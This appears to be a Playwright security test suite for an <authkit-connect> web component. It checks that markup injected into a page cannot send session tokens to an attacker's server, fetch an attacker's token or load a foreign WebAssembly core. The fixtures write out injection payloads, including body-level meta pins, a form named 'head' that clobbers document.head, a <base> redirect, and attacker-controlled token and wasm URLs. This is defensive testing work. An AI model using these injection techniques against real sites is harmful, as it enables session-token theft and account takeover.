// <authkit-connect> is driven by markup, so markup injected into a page (no script at all) can write
// one. It must not become a pipe that hands the signed-in user's session token to another server:
// the element sends tokens only to the page's own origin or to services the page pins in its head
// (or from a script). The host page here is served with no Content-Security-Policy, so nothing but
// the element itself stands between the injected markup and the other server.
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { extname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from '@playwright/test';
import { dialog, startServer } from './helpers.js';

const DIST = fileURLToPath(new URL('../../web/dist', import.meta.url));
const TYPES = { '.mjs': 'text/javascript', '.wasm': 'application/wasm', '.json': 'application/json' };
const PAGE_PATH = '/account';

let host; // the site: its page, the widget's files, and a token endpoint for its signed-in user
let pinned; // the site's own connection service, on another origin
let elsewhere; // an attacker's server
let pageHtml = '';
let tokens = []; // every session token the site's endpoint handed out
const received = { pinned: [], elsewhere: [], host: [] };

// A connection service as welcoming as an attacker's would be (any origin may read it), which
// records what reaches it; only the element can keep a token away from it.
const recorder = (log) => (request, response) => {
  log.push({ method: request.method, path: request.url, authorization: request.headers.authorization ?? null });
  response.writeHead(request.method === 'OPTIONS' ? 204 : 200, {
    'access-control-allow-origin': '*',
    'access-control-allow-headers': 'authorization, content-type',
    'access-control-allow-methods': 'GET, POST',
    'content-type': 'application/json',
  });
  response.end(request.method === 'OPTIONS' ? undefined : '{}');
};

test.beforeAll(async () => {
  pinned = await startServer(recorder(received.pinned));
  elsewhere = await startServer(recorder(received.elsewhere));
  const serviceOnHost = recorder(received.host);
  host = await startServer((request, response) => {
    const path = new URL(request.url, 'http://host').pathname;
    if (path === PAGE_PATH) {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      return response.end(pageHtml);
    }
    if (path === '/api/authkit' && request.method === 'POST') {
      const token = `session-${randomBytes(12).toString('hex')}`;
      tokens.push(token);
      response.writeHead(200, { 'content-type': 'application/json' });
      return response.end(JSON.stringify({ token, expiresAt: new Date(Date.now() + 300_000).toISOString() }));
    }
    if (path.startsWith('/v1/')) return serviceOnHost(request, response);
    const name = path.replace(/^\/authkit\//, '');
    if (!['element.mjs', 'authkit.mjs', 'authkit-core.wasm'].includes(name)) return response.writeHead(404).end();
    response.writeHead(200, { 'content-type': TYPES[extname(name)] });
    return response.end(readFileSync(join(DIST, name)));
  });
});

test.afterAll(async () => {
  await Promise.all([host?.close(), pinned?.close(), elsewhere?.close()]);
});

test.beforeEach(() => {
  tokens = [];
  for (const log of Object.values(received)) log.length = 0;
});

/** Opens the site's page with `head` and `body`, the element module loaded by the site itself. */
async function openPage(page, { head = '', body }) {
  pageHtml = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Your account</title>${head}
    <script type="module" src="/authkit/element.mjs"></script></head><body>${body}</body></html>`;
  // Listening from the first script on: the element's events bubble out of it, composed.
  await page.addInitScript(() => {
    window.__elementErrors = [];
    addEventListener('authkit-error', (event) => window.__elementErrors.push(event.detail));
  });
  await page.goto(`${host.origin}${PAGE_PATH}`);
  await page.waitForFunction(() => customElements.get('authkit-connect') !== undefined);
}

const elementErrors = (page) => page.evaluate(() => window.__elementErrors);
const sessionRequests = (log) => log.filter((request) => request.method === 'GET' && request.path === '/v1/session');

test('attack: markup injection cannot send a session token to another service', async ({ page }) => {
  // What the injection writes into, say, a comment: the element, and the pins it would need, in the body
  // (one inside a form named "head", which shadows document.head for a script that reads it naively).
  const injected = `
    <meta name="authkit-service-url" content="${elsewhere.origin}">
    <form name="head"><meta name="authkit-service-url" content="${elsewhere.origin}"></form>
    <authkit-connect token-url="/api/authkit" service-url="${elsewhere.origin}">
      <button id="injected" type="button">Claim your reward</button>
    </authkit-connect>`;
  await openPage(page, {
    head: `<meta name="authkit-service-url" content="${pinned.origin}">`,
    body: `<main><article>A comment: ${injected}</article></main>`,
  });

  await page.locator('#injected').click();
  // Whichever comes first, the element's refusal or a request at the other server, is the verdict.
  await expect.poll(async () => (await elementErrors(page)).length + received.elsewhere.length).toBeGreaterThan(0);
  expect(received.elsewhere).toEqual([]);
  const [error] = await elementErrors(page);
  expect(error.code).toBe('service_url_not_allowed');
  expect(error.retryable).toBe(false);
  expect(error.message).toContain(`<meta name="authkit-service-url" content="${elsewhere.origin}">`);

  // A second click is refused the same way; after both, no token was even fetched.
  await page.locator('#injected').click();
  await expect.poll(() => elementErrors(page)).toHaveLength(2);
  await page.waitForTimeout(500); // room for a request that should not come
  expect(received.elsewhere).toEqual([]);
  expect(tokens).toEqual([]);
  await expect(dialog(page)).toHaveCount(0);
});

test('a service pinned in the head gets the session token', async ({ page }) => {
  await openPage(page, {
    head: `<meta name="authkit-service-url" content="${pinned.origin}/">`,
    body: `<authkit-connect token-url="/api/authkit" service-url="${pinned.origin}">
      <button id="connect" type="button">Connect</button></authkit-connect>`,
  });
  await page.locator('authkit-connect').evaluate((element) => element.ready);
  await page.locator('#connect').click();
  await expect.poll(() => sessionRequests(received.pinned).length).toBeGreaterThan(0);
  expect(sessionRequests(received.pinned)[0].authorization).toBe(`Bearer ${tokens[0]}`);
  expect(await elementErrors(page)).not.toContainEqual(expect.objectContaining({ code: 'service_url_not_allowed' }));
});

test("a service on the page's own origin needs no pin", async ({ page }) => {
  await openPage(page, {
    body: `<authkit-connect token-url="/api/authkit" service-url="${host.origin}">
      <button id="connect" type="button">Connect</button></authkit-connect>`,
  });
  await page.locator('#connect').click();
  await expect.poll(() => sessionRequests(received.host).length).toBeGreaterThan(0);
  expect(sessionRequests(received.host)[0].authorization).toBe(`Bearer ${tokens[0]}`);
  expect(await elementErrors(page)).not.toContainEqual(expect.objectContaining({ code: 'service_url_not_allowed' }));
});

test('a script may pin a service after the element connected: the element starts then', async ({ page }) => {
  await openPage(page, {
    body: `<authkit-connect token-url="/api/authkit" service-url="${pinned.origin}">
      <button id="connect" type="button">Connect</button></authkit-connect>`,
  });
  const before = await page.evaluate(async () => {
    const { ELEMENT_NAME, defineAuthKitElement } = await import('/authkit/element.mjs');
    let ready = false;
    document.querySelector(ELEMENT_NAME).ready.then(() => { ready = true; });
    await new Promise((resolve) => setTimeout(resolve, 300));
    let invalid = '';
    try {
      defineAuthKitElement(ELEMENT_NAME, { serviceUrls: ['connect.example.com'] });
    } catch (error) {
      invalid = `${error.name}: ${error.message}`;
    }
    return { ready, invalid };
  });
  expect(before).toEqual({
    ready: false,
    invalid: 'TypeError: defineAuthKitElement: "connect.example.com" in "serviceUrls" is not an absolute http(s) URL.',
  });

  await page.evaluate(async (serviceUrl) => {
    const { ELEMENT_NAME, defineAuthKitElement } = await import('/authkit/element.mjs');
    defineAuthKitElement(ELEMENT_NAME, { serviceUrls: [serviceUrl] });
    await document.querySelector(ELEMENT_NAME).ready;
  }, pinned.origin);
  await page.locator('#connect').click();
  await expect.poll(() => sessionRequests(received.pinned).length).toBeGreaterThan(0);
  expect(await elementErrors(page)).toEqual([]);
});

test("attack: injected markup cannot take the token from another site's endpoint, directly or through a <base>", async ({ page }) => {
  // The attacker's own valid token, served from his server: before the fix the element fetched it, and
  // the victim's account would have been connected under the attacker's identity.
  const injected = (tokenUrl) => `<authkit-connect token-url="${tokenUrl}" service-url="${pinned.origin}">
      <button class="injected" type="button">Claim</button></authkit-connect>`;
  await openPage(page, {
    head: `<meta name="authkit-service-url" content="${pinned.origin}">`,
    body: `<base href="${elsewhere.origin}/">${injected(`${elsewhere.origin}/api/authkit`)}${injected('api/authkit')}`,
  });
  await page.locator('.injected').first().click();
  await expect.poll(() => elementErrors(page)).toHaveLength(1);
  expect((await elementErrors(page))[0].code).toBe('token_url_not_allowed');
  // The relative one is read from the page's own address, whatever <base> says: it reaches the site.
  await page.locator('.injected').nth(1).click();
  await expect.poll(() => tokens.length).toBe(1);
  await page.waitForTimeout(300);
  expect(received.elsewhere).toEqual([]);
});

test('attack: injected markup cannot make the element run a core from another server', async ({ page }) => {
  await openPage(page, {
    head: `<meta name="authkit-service-url" content="${pinned.origin}">`,
    body: `<authkit-connect token-url="/api/authkit" service-url="${pinned.origin}" wasm-url="${elsewhere.origin}/x.wasm">
      <button id="injected" type="button">Claim</button></authkit-connect>`,
  });
  await page.locator('#injected').click();
  await expect.poll(() => elementErrors(page)).toHaveLength(1);
  expect((await elementErrors(page))[0].code).toBe('wasm_url_not_allowed');
  await page.waitForTimeout(300);
  expect(received.elsewhere).toEqual([]);
  expect(tokens).toEqual([]);
});
